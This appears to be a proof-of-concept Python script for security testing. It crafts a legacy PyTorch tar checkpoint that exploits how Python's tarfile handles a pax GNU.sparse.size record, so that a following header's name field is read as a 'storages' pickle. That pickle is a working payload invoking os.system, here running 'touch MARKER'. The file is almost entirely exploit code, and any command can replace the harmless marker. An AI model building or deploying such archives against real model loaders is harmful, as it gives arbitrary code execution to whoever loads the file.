"""Legacy torch tar: 'storages' has header size 0 and a pax record GNU.sparse.size=512. Python's tarfile
sets the member's size to 512 (offsets of later headers unchanged), so tar.extract('storages') copies the
next 512 bytes: the following header, whose name field is the payload pickle. C tar readers read 0 bytes.
usage: python3 tar_pax_sparse_size.py OUT MARKER"""
import sys

def header(name, size, typeflag=b"0"):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = typeflag
    b[257:263] = b"ustar\0"
    b[263:265] = b"00"
    b[148:156] = b"%06o\0 " % sum(b)
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

def pax(records):
    out = b""
    for k, v in records:
        body = b" " + k + b"=" + v + b"\n"
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n += 1
        out += str(n).encode() + body
    return out

def main(out, marker):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    assert len(payload) < 100
    rec = pax([(b"GNU.sparse.size", b"512"), (b"GNU.sparse.offset", b"0"), (b"GNU.sparse.numbytes", b"512")])
    blocks = [header(b"PaxHeader/storages", len(rec), b"x"), pad(rec),
              header(b"storages", 0),
              header(payload, 0)]        # a member of its own for both readers; storages' data for tarfile
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
